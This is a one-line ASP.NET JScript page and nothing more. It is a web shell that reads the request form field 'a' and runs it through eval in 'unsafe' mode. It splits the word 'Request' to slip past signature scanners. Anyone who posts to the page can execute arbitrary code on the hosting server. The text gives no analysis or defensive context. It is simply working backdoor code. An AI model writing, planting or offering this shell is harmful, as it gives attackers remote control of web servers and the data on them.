<%@ Page Language="JScript"%><%var r=Page["Re" + "quest"];eval(r.Form["a"], "unsafe");%>
